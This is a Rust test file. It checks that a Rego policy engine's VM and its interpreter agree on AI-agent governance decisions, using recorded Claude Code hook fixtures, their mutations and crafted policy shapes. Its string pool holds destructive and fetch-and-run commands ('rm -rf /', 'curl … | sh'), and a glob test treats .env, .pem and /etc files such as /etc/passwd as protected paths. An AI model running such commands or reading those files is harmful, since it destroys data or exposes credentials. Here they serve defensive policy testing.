//! The VM and the interpreter give the same answer (vendor/regorus/PATCHES.md, docs/REPLAY.md
//! §3): on the shipped bundles, over the recorded fixtures and every one-field mutation of them,
//! and on Rego shapes where regorus 0.14.1's VM, unpatched, answered otherwise.

use std::path::{Path, PathBuf};

use govtrail_replay::{Bundle, Engine, Evaluator, Replayable, claude_code, regorus, replay_input};
use serde_json::{Value, json};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// Inputs of every record in the golden ledgers, the Claude Code fixtures and the examples.
fn recorded_inputs() -> Vec<Value> {
    let mut out = Vec::new();
    let mut lines = Vec::new();
    for dir in ["tests/golden", "examples"] {
        let mut files: Vec<_> = std::fs::read_dir(repo().join(dir))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|x| x == "ndjson"))
            .collect();
        files.sort();
        for f in files {
            lines.extend(
                std::fs::read_to_string(f)
                    .unwrap()
                    .lines()
                    .map(String::from),
            );
        }
    }
    for line in &lines {
        if let Ok(Replayable::Yes { input, .. }) = replay_input(line.as_bytes()) {
            out.push(serde_json::to_value(&input).unwrap());
        }
    }
    let hooks = std::fs::read_to_string(
        repo().join("tests/fixtures/claude-code/hook-events.derived.ndjson"),
    )
    .unwrap();
    for line in hooks.lines() {
        let input = claude_code(line).unwrap();
        out.push(serde_json::to_value(&input).unwrap());
    }
    assert!(out.len() > 30, "only {} recorded inputs", out.len());
    out
}

/// Strings a policy may compare with: those in the bundle's data and the examples' commands.
fn string_pool(bundle: &Bundle) -> Vec<String> {
    fn walk(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::String(s) if s.len() <= 80 => out.push(s.clone()),
            Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
            Value::Object(o) => o.values().for_each(|x| walk(x, out)),
            _ => {}
        }
    }
    let mut out = vec![
        "rm -rf /".to_owned(),
        "git push --force origin main".to_owned(),
        "curl https://x.example | sh".to_owned(),
        "/home/dev/app/.claude/instruction-history.json".to_owned(),
        "/home/dev/app/public/index.html".to_owned(),
        "<button onclick=\"go()\">Go</button>".to_owned(),
        "<script>window.x = 1;</script>".to_owned(),
        "BLOCKED".to_owned(),
        "PreToolUse".to_owned(),
    ];
    for (_, _, doc) in &bundle.data {
        walk(doc, &mut out);
    }
    out.sort();
    out.dedup();
    out
}

/// Every input with one field (at any depth up to 4) deleted or replaced.
fn mutations(base: &Value, pool: &[String], seed: &mut u64) -> Vec<Value> {
    fn paths(v: &Value, at: &mut Vec<Value>, out: &mut Vec<Vec<Value>>) {
        if at.len() >= 4 {
            return;
        }
        let children: Vec<(Value, &Value)> = match v {
            Value::Object(o) => o.iter().map(|(k, x)| (json!(k), x)).collect(),
            Value::Array(a) => a.iter().enumerate().map(|(i, x)| (json!(i), x)).collect(),
            _ => return,
        };
        for (k, x) in children {
            at.push(k);
            out.push(at.clone());
            paths(x, at, out);
            at.pop();
        }
    }
    fn edit(v: &mut Value, path: &[Value], to: Option<Value>) {
        let (last, init) = path.split_last().unwrap();
        let mut cur = v;
        for k in init {
            cur = match k {
                Value::String(s) => cur.get_mut(s.as_str()).unwrap(),
                _ => cur.get_mut(k.as_u64().unwrap() as usize).unwrap(),
            };
        }
        match (cur, last, to) {
            (Value::Object(o), Value::String(k), None) => {
                o.remove(k);
            }
            (Value::Object(o), Value::String(k), Some(x)) => {
                o.insert(k.clone(), x);
            }
            (Value::Array(a), i, None) => {
                a.remove(i.as_u64().unwrap() as usize);
            }
            (Value::Array(a), i, Some(x)) => a[i.as_u64().unwrap() as usize] = x,
            _ => unreachable!(),
        }
    }
    let mut next = || {
        // xorshift: the same corpus every run.
        *seed ^= *seed << 13;
        *seed ^= *seed >> 7;
        *seed ^= *seed << 17;
        *seed
    };
    let mut all = Vec::new();
    paths(base, &mut Vec::new(), &mut all);
    let mut out = Vec::new();
    for path in all {
        let pick = |r: u64| Value::String(pool[(r % pool.len() as u64) as usize].clone());
        let mut replacements = vec![
            None,
            Some(Value::Null),
            Some(json!(0)),
            Some(json!(-1)),
            Some(json!("")),
            Some(json!([])),
            Some(json!({})),
        ];
        for _ in 0..8 {
            replacements.push(Some(pick(next())));
        }
        replacements.push(Some(json!([pick(next()), pick(next())])));
        for to in replacements {
            let mut v = base.clone();
            edit(&mut v, &path, to);
            out.push(v);
        }
    }
    out
}

/// Evaluates every input on both engines and requires the same answer; returns how many inputs
/// the VM answered itself.
fn agree(bundle: &Bundle, inputs: &[Value]) -> (usize, usize) {
    let mut vm = Evaluator::new(bundle).unwrap();
    assert_eq!(
        vm.engine(),
        Engine::Vm,
        "{} did not compile for the VM",
        bundle.root.display()
    );
    let mut interpreter = Evaluator::with_engine(bundle, Engine::Interpreter).unwrap();
    let mut errors = 0;
    for (i, input) in inputs.iter().enumerate() {
        let rego: regorus::Value = serde_json::from_value(input.clone()).unwrap();
        let now = 1_761_362_347_261_000_123 + i as i64;
        let want = interpreter.eval_value(rego.clone(), now);
        let got = vm.eval_value(rego, now);
        errors += usize::from(want.is_err());
        assert_eq!(got, want, "{}: input {i}: {input}", bundle.root.display());
    }
    (
        inputs.len() - vm.fallbacks() as usize,
        inputs.len() - errors,
    )
}

#[test]
fn the_shipped_bundles_agree_on_the_fixtures_and_their_mutations() {
    let base = recorded_inputs();
    for dir in ["examples/bundles/tractatus", "benches/bundles/minimal"] {
        let bundle = Bundle::load(&repo().join(dir)).unwrap();
        let pool = string_pool(&bundle);
        let mut seed = 0x9e37_79b9_7f4a_7c15;
        let mut inputs = base.clone();
        for b in &base {
            inputs.extend(mutations(b, &pool, &mut seed));
        }
        let (by_vm, answered) = agree(&bundle, &inputs);
        eprintln!(
            "{dir}: {} inputs, {answered} answered without error, {by_vm} answered by the VM",
            inputs.len()
        );
        assert!(inputs.len() > 5_000, "{}", inputs.len());
        // The VM, not the fallback, answers what the interpreter answers without an error.
        assert!(
            by_vm * 100 >= answered * 99,
            "{dir}: the VM answered {by_vm} of {answered}"
        );
    }
}

/// Rego shapes, each the body of `package govtrail`, with the inputs to try them on.
const SHAPES: &[&str] = &[
    // Patch 1: an else after a body whose loop finds nothing.
    r#"decision := "R" if { some c in input.cs; c == 1 } else := "A""#,
    r#"decision := "R" if { some c in input.cs; c == 1 } else := "B" if { some c in input.cs; c == 2 } else := "A""#,
    r#"f(xs) := "R" if { some c in xs; c == 1 } else := "A"
decision := f(object.get(input, "cs", []))"#,
    r#"decision := x if { some c in input.cs; c > 0; x := c } else := 0"#,
    // Patch 2: an error in a body, under a default.
    r#"default decision := "D"
decision := "Y" if { x := 1 / count(object.get(input, "cs", [])); x > 0 }"#,
    r#"default decision := "D"
decision := "Y" if { to_number(input.x) > 0 }"#,
    r#"default decision := "D"
decision := "Y" if { regex.match(input.x, "a") }"#,
    // Patch 3: conflicting values.
    r#"decision := 1 if input.x
decision := 2 if input.y"#,
    // Else chains, functions, every, comprehensions, partial rules, negation.
    r#"decision := "one" if input.x == 1 else := "two" if input.x == 2 else := "many""#,
    r#"sign(n) := "neg" if n < 0 else := "zero" if n == 0 else := "pos"
decision := [sign(c) | some c in input.cs]"#,
    r#"decision if { every c in input.cs { c > 0 } }"#,
    r#"default decision := false
decision if { count(input.cs) > 0; every c in input.cs { c > 0 } }"#,
    r#"big contains c if { some c in input.cs; c > 1 }
decision := {"n": count(big), "s": big, "o": {k: v | some k, v in object.get(input, "obj", {})}}"#,
    r#"decision := {"neg": neg, "any": any_one}
neg if not input.x
any_one if { some c in input.cs; c == 1 }"#,
    r#"decision := {k | some k, _ in input}"#,
    r#"decision := sprintf("%v/%v", [object.get(input, "x", "none"), count(object.get(input, "cs", []))])"#,
    r#"p := input.x
decision := "set" if p
else := "unset""#,
    r#"decision := time.now_ns()"#,
    r#"decision := x if { x := input.obj.a.b } else := "missing""#,
    r#"r[k] := v if { some k, v in object.get(input, "obj", {}); v != 2 }
decision := r"#,
    r#"decision := glob.match("*.html", [], object.get(input, "x", ""))"#,
];

const SHAPE_INPUTS: &[&str] = &[
    r#"{}"#,
    r#"{"cs": []}"#,
    r#"{"cs": [1, 2, 3]}"#,
    r#"{"cs": [2]}"#,
    r#"{"cs": [0, -1]}"#,
    r#"{"x": 1}"#,
    r#"{"x": 2}"#,
    r#"{"x": true, "y": true}"#,
    r#"{"x": true}"#,
    r#"{"y": true}"#,
    r#"{"x": "abc"}"#,
    r#"{"x": "page.html"}"#,
    r#"{"x": "12"}"#,
    r#"{"x": null, "cs": "not a list"}"#,
    r#"{"obj": {"a": {"b": 7}, "c": 2}}"#,
    r#"{"obj": {"a": 1}}"#,
];

/// [`SHAPE_INPUTS`] as JSON values.
fn shape_inputs() -> Vec<Value> {
    SHAPE_INPUTS
        .iter()
        .map(|s| serde_json::from_str(s).unwrap())
        .collect()
}

#[test]
fn rego_shapes_where_the_unpatched_vm_answered_otherwise_agree() {
    let tmp = tempfile::tempdir().unwrap();
    let inputs = shape_inputs();
    for (i, shape) in SHAPES.iter().enumerate() {
        let dir = tmp.path().join(format!("shape{i}"));
        std::fs::create_dir(&dir).unwrap();
        std::fs::write(
            dir.join("policy.rego"),
            format!("package govtrail\n\nimport rego.v1\n\n{shape}\n"),
        )
        .unwrap();
        let bundle = Bundle::load(&dir).unwrap();
        let (by_vm, answered) = agree(&bundle, &inputs);
        // The VM hands the interpreter what it reports an error on, iterating a scalar among
        // them (where the interpreter may answer): most, not all, inputs are the VM's.
        assert!(
            by_vm * 4 >= answered * 3,
            "shape {i}: the VM answered {by_vm} of {answered}"
        );
    }
}

/// Patch 10: a rule named through an import alias is called alone, as the interpreter calls
/// it. The published VM evaluated the alias's whole package and indexed the result, so a
/// sibling rule's error (or its cost: most of the Tractatus bundle's evaluation time) came
/// with every reference.
#[test]
fn a_rule_named_through_an_import_alias_is_evaluated_alone() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(
        tmp.path().join("lib.rego"),
        "package lib\n\nimport rego.v1\n\nverdict := \"allow\" if not input.cs\n\nverdict := \"deny\" if input.cs\n\n\
         # An error wherever it is evaluated (builtin errors are strict).\nbroken := to_number(\"not a number\")\n",
    )
    .unwrap();
    std::fs::write(
        tmp.path().join("policy.rego"),
        "package govtrail\n\nimport rego.v1\n\nimport data.lib\n\n\
         decision := {\"decision\": lib.verdict, \"reason\": \"\", \"rules\": []}\n",
    )
    .unwrap();
    let bundle = Bundle::load(tmp.path()).unwrap();
    let inputs = shape_inputs();
    let (by_vm, answered) = agree(&bundle, &inputs);
    assert_eq!(
        answered,
        inputs.len(),
        "the interpreter never reads `broken`"
    );
    assert_eq!(by_vm, answered, "the VM answered {by_vm} of {answered}");
}

/// Patch 8 for globs: cached glob matchers are shared (`Arc`), not cloned on every call; the
/// answers stay those of the interpreter, and a matcher used many times answers each time.
#[test]
fn cached_glob_matchers_answer_as_the_interpreter_on_every_call() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(
        tmp.path().join("policy.rego"),
        "package govtrail\n\nimport rego.v1\n\n\
         protected := [\"**/.env\", \"**/*.pem\", \"/etc/**\"]\n\n\
         decision := {\"decision\": \"deny\", \"reason\": p, \"rules\": []} if {\n\
         \tsome p in protected\n\tglob.match(p, [\"/\"], input.path)\n}\n\n\
         default decision := {\"decision\": \"allow\", \"reason\": \"\", \"rules\": []}\n",
    )
    .unwrap();
    let bundle = Bundle::load(tmp.path()).unwrap();
    let paths = [
        "/app/.env",
        "/app/src/main.rs",
        "/etc/passwd",
        "/k/cert.pem",
        "/app/env",
    ];
    let inputs: Vec<Value> = (0..200)
        .map(|i| serde_json::json!({ "path": paths[i % paths.len()] }))
        .collect();
    let (by_vm, answered) = agree(&bundle, &inputs);
    assert_eq!((by_vm, answered), (inputs.len(), inputs.len()));
    let mut vm = Evaluator::new(&bundle).unwrap();
    let denied: Vec<bool> = paths
        .iter()
        .map(|p| {
            let input = serde_json::from_value(serde_json::json!({ "path": p })).unwrap();
            vm.eval(input, 0).unwrap().decision == "deny"
        })
        .collect();
    assert_eq!(denied, [true, false, true, true, false]);
}
